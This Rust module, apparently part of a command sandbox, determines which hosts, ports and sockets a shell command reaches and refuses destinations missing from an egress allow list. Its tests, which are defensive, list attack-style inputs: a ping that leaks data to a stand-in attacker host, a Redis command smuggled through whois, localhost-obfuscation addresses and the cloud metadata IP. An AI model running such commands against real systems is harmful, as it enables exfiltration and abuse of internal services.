//! What a command must reach beside the files of this machine: other machines, by ports, and local sockets. Said by
//! `tables/reach.toml` and found in its words; the sandbox opens this much and no more.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use serde::Deserialize;

use super::args::Parsed;
use super::judgement::Finding;
use super::script::Word;
use super::tables::rows_by_name;
use crate::egress::{Destinations, host_of};

/// What one command of a line must reach.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reach {
    /// Other machines, or this one by its network.
    pub network: Option<Network>,
    /// Local sockets, by their paths; a folder stands for those in it.
    pub sockets: Vec<String>,
}

/// Which machines a command talks to.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Network {
    /// Whom it talks to.
    pub endpoints: Vec<Endpoint>,
    /// The TCP ports that its table allows.
    pub ports: Vec<u16>,
}

/// One other side of a connection.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Endpoint {
    /// A host that stands in the line, with its port where one does.
    Host(String, Option<u16>),
    /// The servers that this tool's own configuration names.
    Configured(String),
}

impl Reach {
    /// Nothing but files.
    pub const fn nothing() -> Self {
        Self { network: None, sockets: Vec::new() }
    }

    /// Adds what another command inside the same one must reach.
    pub(super) fn add(&mut self, other: &Self) {
        let new: Vec<String> = other.sockets.iter().filter(|path| !self.sockets.contains(path)).cloned().collect();
        self.sockets.extend(new);
        if let Some(more) = &other.network {
            let network = self.network.get_or_insert_with(Network::default);
            network.endpoints.extend(more.endpoints.iter().cloned());
            network.ports.extend(&more.ports);
        }
    }
}

impl Network {
    /// Returns why the command may not talk to whom it names, in words for people; none where it may.
    pub fn refused_by(&self, allowed: &Destinations) -> Option<String> {
        self.endpoints.iter().find_map(|endpoint| match endpoint {
            Endpoint::Configured(tool) if allowed.allows_tool(tool) => None,
            Endpoint::Configured(tool) => Some(format!(
                "`{tool}` talks to servers that its own configuration names; an administrator allows that with \
                 `tool:{tool}` in `[egress] allow`"
            )),
            Endpoint::Host(host, port) if !self.tried(*port).iter().any(|port| allowed.allows(host, *port)) => {
                let port = self.tried(*port).into_iter().flatten().next().map(|port| format!(":{port}")).unwrap_or_default();
                Some(format!(
                    "`{host}` is not among the destinations in `[egress] allow`; an administrator adds `{host}{port}` there"
                ))
            }
            Endpoint::Host(host, Some(port)) if !self.ports.contains(port) && !allowed.lists(host, *port) => {
                Some(format!(
                    "port {port} is not one that this tool uses; an administrator allows it with `{host}:{port}` in \
                 `[egress] allow`"
                ))
            }
            Endpoint::Host(..) => None,
        })
    }

    /// The ports of which one must be allowed for a host: the one that the line names, or else those of the table, and none
    /// at all, which an entry for every port allows.
    fn tried(&self, named: Option<u16>) -> Vec<Option<u16>> {
        match named {
            Some(_) => vec![named],
            None => std::iter::once(None).chain(self.ports.iter().copied().map(Some)).collect(),
        }
    }

    /// Returns the TCP ports that it connects to: those that the line names, or else those of its table.
    pub fn ports_used(&self) -> Vec<u16> {
        let named = |endpoint: &Endpoint| match endpoint {
            Endpoint::Host(_, port) => *port,
            Endpoint::Configured(_) => None,
        };
        let all: Option<Vec<u16>> = self.endpoints.iter().map(named).collect();
        all.filter(|ports| !ports.is_empty()).unwrap_or_else(|| self.ports.clone())
    }
}

/// A row of the table.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Row {
    also: Vec<String>,
    ports: Vec<u16>,
    /// Options whose value names the other side.
    hosts: String,
    /// Options whose value is a port.
    port_options: String,
    operands: Operands,
    /// Operands that are no hosts.
    others: String,
    sockets: Vec<String>,
    /// `socket`, a host, or nothing for what its own configuration names.
    endpoint: Option<String>,
}

/// Which operands name the other side.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Operands {
    #[default]
    None,
    First,
    All,
}

/// The shipped rows by the names of tools. A mistake in them is a mistake of this program: a test reads them.
fn rows() -> &'static BTreeMap<String, Row> {
    static ROWS: OnceLock<BTreeMap<String, Row>> = OnceLock::new();
    ROWS.get_or_init(|| rows_by_name(include_str!("tables/reach.toml"), |row: &Row| &row.also))
}

/// The tool's own name in one with a sub-command.
fn first_word(name: &str) -> &str {
    name.split(' ').next().unwrap_or_default()
}

/// Finds what a tool with these words reaches: by its row, or one of its sub-command alone. The error is what makes it
/// unknown.
pub(super) fn of(name: &str, parsed: &Parsed<'_>) -> Result<Reach, Finding> {
    let tool = first_word(name);
    let Some(row) = rows().get(name).or_else(|| rows().get(tool)) else {
        return Ok(Reach::nothing());
    };
    let mut endpoints = Vec::new();
    for word in row.named(parsed) {
        let Word::Known(text) = word else {
            return Err(Finding::unknown(format!("`{}` could be any host ({tool})", word.shown())));
        };
        let (host, port) = host_of(text.trim_start_matches('@'))
            .ok_or_else(|| Finding::unknown(format!("which host `{text}` is, is not clear ({tool})")))?;
        endpoints.push(Endpoint::Host(host.to_owned(), port));
    }
    let port = row.port(parsed, tool)?;
    match (endpoints.is_empty(), row.endpoint.as_deref()) {
        (true, Some("socket")) => return Ok(Reach { network: None, sockets: row.sockets.clone() }),
        (true, Some(host)) => endpoints.push(Endpoint::Host(host.to_owned(), None)),
        (true, None) => {
            // Its configuration names its servers; an address in its words names another.
            for text in addresses(parsed) {
                let (host, port) = host_of(text)
                    .ok_or_else(|| Finding::unknown(format!("which host `{text}` is, is not clear ({tool})")))?;
                endpoints.push(Endpoint::Host(host.to_owned(), port));
            }
            endpoints.push(Endpoint::Configured(tool.to_owned()));
        }
        (false, _) => {}
    }
    for endpoint in &mut endpoints {
        if let Endpoint::Host(_, none @ None) = endpoint {
            *none = port;
        }
    }
    Ok(Reach { network: Some(Network { endpoints, ports: row.ports.clone() }), sockets: Vec::new() })
}

/// The words that are addresses, whatever they are for.
fn addresses<'p>(parsed: &'p Parsed<'_>) -> impl Iterator<Item = &'p str> {
    let values = parsed.options.iter().filter_map(|given| given.value.as_ref());
    let words = values.chain(parsed.operands.iter().map(|(_, word)| word));
    words.filter_map(Word::known).filter(|text| text.contains("://"))
}

impl Row {
    /// The words that name the other side.
    fn named<'p>(&self, parsed: &'p Parsed<'_>) -> Vec<&'p Word> {
        let options =
            parsed.options.iter().filter(|given| self.hosts.split_whitespace().any(|name| name == given.name));
        let most = match self.operands {
            Operands::None => 0,
            Operands::First => 1,
            Operands::All => usize::MAX,
        };
        let other = |word: &Word| {
            word.known().is_some_and(|text| text.starts_with('+') || self.others.split(' ').any(|other| other == text))
        };
        let operands = parsed.operands.iter().map(|(_, word)| word).filter(|word| !other(word)).take(most);
        options.filter_map(|given| given.value.as_ref()).chain(operands).collect()
    }

    /// The port that an option names.
    fn port(&self, parsed: &Parsed<'_>, tool: &str) -> Result<Option<u16>, Finding> {
        let is_port = |name: &str| self.port_options.split_whitespace().any(|option| option == name);
        let Some(given) = parsed.options.iter().rev().find(|given| is_port(&given.name)) else {
            return Ok(None);
        };
        let port = given.value.as_ref().and_then(Word::known).and_then(|text| text.parse().ok());
        port.map(Some).ok_or_else(|| Finding::unknown(format!("which port it asks is not clear ({tool})")))
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::judge;
    use super::*;

    fn reach(line: &str) -> Reach {
        let judged = judge(line);
        let list = judged.run.unwrap_or_else(|| panic!("{line}: {}", judged.reason));
        list.stages().map(|stage| stage.traits.reach.clone()).next().expect("one command")
    }

    fn why(line: &str, allow: &[&str]) -> Option<String> {
        let allowed = Destinations::parse(allow).expect("sound entries");
        reach(line).network.and_then(|network| network.refused_by(&allowed))
    }

    #[test]
    fn every_row_is_of_a_tool_that_is_known() {
        let unknown: Vec<&String> =
            rows().keys().filter(|name| !super::super::table::shipped().contains_key(first_word(name))).collect();
        assert_eq!(unknown, Vec::<&String>::new());
    }

    #[test]
    fn a_command_reaches_what_its_words_and_its_table_say() {
        for line in ["ls", "cat /etc/hosts", "ip addr", "ss -tln", "git log", "openssl version"] {
            assert_eq!(reach(line), Reach::nothing(), "{line}");
        }
        assert_eq!(reach("docker ps").sockets, ["/run/docker.sock"]);
        assert_eq!(reach("timeout 5 docker ps").sockets, ["/run/docker.sock"], "also inside another command");
        assert_eq!(reach("psql -c 'select 1'").network, None);
        assert_eq!(
            reach("openssl x509 -in /etc/ssl/certs/web.crt -noout -enddate").network,
            None,
            "of one sub-command alone"
        );
        let host = |name: &str, port| Endpoint::Host(name.to_owned(), port);
        let table = [
            ("curl -s https://docs.example.org/x", vec![host("docs.example.org", Some(443))]),
            (
                "dig +short @ns1.example.org www.example.org MX",
                vec![host("ns1.example.org", None), host("www.example.org", None)],
            ),
            (
                "whois -h whois.example.org -p 43 example.org",
                vec![host("whois.example.org", Some(43)), host("example.org", Some(43))],
            ),
            ("psql -h db1 -p 5433 -c 'select 1'", vec![host("db1", Some(5433))]),
            ("redis-cli ping", vec![host("127.0.0.1", None)]),
            ("kubectl get pods", vec![Endpoint::Configured("kubectl".to_owned())]),
            (
                "kubectl get -f http://127.0.0.1:6443/z",
                vec![host("127.0.0.1", Some(6443)), Endpoint::Configured("kubectl".to_owned())],
            ),
            ("openssl s_client -connect web-1:443 </dev/null", vec![host("web-1", Some(443))]),
            ("timeout 5 ping -c 1 web-1", vec![host("web-1", None)]),
        ];
        for (line, expected) in table {
            assert_eq!(reach(line).network.expect(line).endpoints, expected, "{line}");
        }
    }

    #[test]
    fn only_allowed_hosts_and_usual_ports_are_talked_to() {
        let all = ["docs.example.org", "127.0.0.1", "db1:5433", "web-1:9090", "tool:kubectl", "ns1.example.org"];
        for line in [
            "curl http://docs.example.org/",
            "redis-cli ping",
            "psql -h db1 -p 5433 -c 'select 1'",
            "kubectl get pods",
            "curl http://web-1:9090/-/healthy",
            "ping -c 1 docs.example.org",
            "dig @ns1.example.org docs.example.org",
        ] {
            assert_eq!(why(line, &all), None, "{line}");
            assert!(why(line, &[]).is_some(), "{line}: nothing is allowed where nothing is listed");
        }
        let refused = [
            "whois -h 127.0.0.1 -p 6379 'CONFIG SET dir /tmp'",
            "whois -h 127.0.0.1 -p 6379 x",
            "curl http://127.0.0.1:6379/",
            "curl http://docs.example.org:6379/",
            "openssl s_client -connect 127.0.0.1:6379 </dev/null",
            "dig @127.0.0.1 -p 6379 docs.example.org",
            "helm list",
            "kubectl get -f https://web-2/z",
            "ping -c 1 secret.attacker.example",
        ];
        for line in refused {
            let judged = judge(line);
            let network = judged
                .run
                .iter()
                .flat_map(super::super::CommandList::stages)
                .find_map(|stage| stage.traits.reach.network.clone());
            let allowed = Destinations::parse(all).expect("sound entries");
            assert!(
                judged.run.is_none() || network.is_some_and(|network| network.refused_by(&allowed).is_some()),
                "{line}"
            );
        }
    }

    /// Clients, and where in their words a host, a port and a line of somebody's choice can stand.
    const CLIENTS: [&str; 20] = [
        "whois -h HOST -p PORT 'LINE'",
        "whois -h HOST 'LINE'",
        "dig @HOST -p PORT 'LINE'",
        "dig @HOST LINE.example.org",
        "host LINE.example.org HOST",
        "nslookup -port=PORT LINE.example.org HOST",
        "openssl s_client -connect HOST:PORT -servername 'LINE' </dev/null",
        "openssl s_client -connect HOST:PORT -alpn 'LINE' </dev/null",
        "openssl s_client -connect HOST:PORT -starttls xmpp -xmpphost 'LINE' </dev/null",
        "psql -h HOST -p PORT -U 'LINE' -c 'select 1'",
        "psql 'host=HOST port=PORT user=LINE' -c 'select 1'",
        "psql postgres://LINE@HOST:PORT/x -c 'select 1'",
        "mysql -h HOST -P PORT -u 'LINE' -e 'select 1'",
        "redis-cli -h HOST -p PORT ping",
        "curl http://HOST:PORT/LINE",
        "curl -A 'LINE' http://HOST:PORT/",
        "curl --socks4 'LINE@HOST:PORT' http://docs.example.org/",
        "wget --max-redirect=0 -qO- http://HOST:PORT/LINE",
        "nc -zv HOST PORT",
        "ping -c 1 -p 4c LINE.HOST",
    ];

    /// What stands for this machine, and for somebody else's.
    const HOSTS: [&str; 12] = [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "0.0.0.0",
        "127.1",
        "2130706433",
        "0x7f.1",
        "LOCALHOST.",
        "::ffff:127.0.0.1",
        "10.0.0.7",
        "attacker.example",
        "169.254.169.254",
    ];

    fn with_wrapper() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec![
            "C",
            "timeout 5 C",
            "nice C",
            "ls | xargs -r C",
            "true && C",
            "bash -c \"C\"",
            "C | head -n 1",
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3_000, ..ProptestConfig::default() })]

        /// Whatever client carries whatever line, it talks to nobody whom no administrator listed, and to no other port of
        /// whom they did.
        #[test]
        fn no_client_talks_to_a_host_or_a_port_that_is_not_listed(
            client in prop::sample::select(CLIENTS.to_vec()),
            host in prop::sample::select(HOSTS.to_vec()),
            port in prop_oneof![Just(6379_u16), Just(11211), Just(25), Just(2375), 1024_u16..],
            line in "[A-Za-z]{1,8}",
            around in with_wrapper(),
        ) {
            let command = client.replace("LINE", &line).replace("HOST", host).replace("PORT", &port.to_string());
            let whole = around.replace('C', &command);
            // Its other hosts, and this very host for another port.
            let listed = ["docs.example.org", "*.example.org", "10.0.0.7:7"];
            let allowed = Destinations::parse(listed).expect("sound entries");
            let judged = judge(&whole);
            let reached: Vec<Reach> =
                judged.run.iter().flat_map(super::super::CommandList::stages).map(|stage| stage.traits.reach.clone()).collect();
            let refused = reached.iter().any(|reach| {
                reach.network.as_ref().is_some_and(|network| network.refused_by(&allowed).is_some())
            });
            let only_local = reached.iter().all(|reach| reach.network.is_none());
            prop_assert!(judged.run.is_none() || refused || only_local, "{}: {:?}", whole, reached);
        }
    }
}
